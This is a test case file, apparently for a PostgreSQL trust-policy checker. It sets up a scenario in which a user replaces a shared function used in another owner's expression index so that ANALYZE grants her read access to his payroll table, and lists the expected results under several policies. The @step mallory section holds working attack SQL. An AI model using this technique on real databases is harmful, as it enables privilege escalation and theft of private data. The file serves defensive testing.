/*---
title: Expression index evaluated by ANALYZE as the table owner
pattern: Maintenance runs index expressions as the table owner; a function another role may replace turns it against that owner
description: >
  bob built an expression index on his customers table over mallory.normalize_email(), a helper
  from the shared schema mallory maintains. mallory later replaces the function's body. When alice,
  a superuser, runs ANALYZE on bob's table, PostgreSQL evaluates the index expression as the table
  owner bob (inside a security-restricted operation), so mallory's new code runs with bob's rights and
  grants her read access to bob's payroll table.
roles:
  alice: {superuser: true}
  bob: {}
  mallory: {}
reality:
  query: SELECT has_table_privilege('mallory', 'bob.payroll', 'SELECT')
  expect: "t"
expect:
  permissive: allowed
  ddl-needs-trusted-chain:
    blocked:
      - command: GRANT
        culprit: {kind: function, object: mallory.normalize_email(text), owner: mallory, phase: maintenance}
  no-untrusted-code-as-superuser: allowed
  sandbox-untrusted:
    blocked:
      - command: GRANT
        culprit: {kind: function, object: mallory.normalize_email(text), owner: mallory, phase: maintenance}
  strict-trusted-chain:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: mallory.normalize_email(text), owner: mallory, phase: maintenance}
  strict-trusted-chain-infrastructure:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: mallory.normalize_email(text), owner: mallory, phase: maintenance}
  strict-trusted-chain-membership:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: mallory.normalize_email(text), owner: mallory, phase: maintenance}
  strict-trusted-chain-since-definer:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: mallory.normalize_email(text), owner: mallory, phase: maintenance}
---*/

-- @setup
CREATE SCHEMA mallory AUTHORIZATION mallory;
CREATE SCHEMA bob AUTHORIZATION bob;
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
SET ROLE mallory;
CREATE FUNCTION mallory.normalize_email(e text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    RETURN lower(trim(e));
END $$;
RESET ROLE;
SET ROLE bob;
CREATE TABLE bob.payroll(employee text, salary numeric);
CREATE TABLE bob.customers(id integer, email text);
INSERT INTO bob.customers SELECT g, 'Customer' || g || '@Example.com' FROM generate_series(1, 20) g;
CREATE INDEX customers_email ON bob.customers (mallory.normalize_email(email));
RESET ROLE;

-- @step mallory
CREATE FUNCTION mallory.f_grab() RETURNS integer LANGUAGE plpgsql AS $$
BEGIN
    GRANT SELECT ON bob.payroll TO mallory;
    RETURN 1;
EXCEPTION WHEN insufficient_privilege THEN
    RETURN 0;
END $$;
CREATE OR REPLACE FUNCTION mallory.normalize_email(e text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    PERFORM mallory.f_grab();
    RETURN lower(trim(e));
END $$;

-- @step alice
ANALYZE bob.customers;
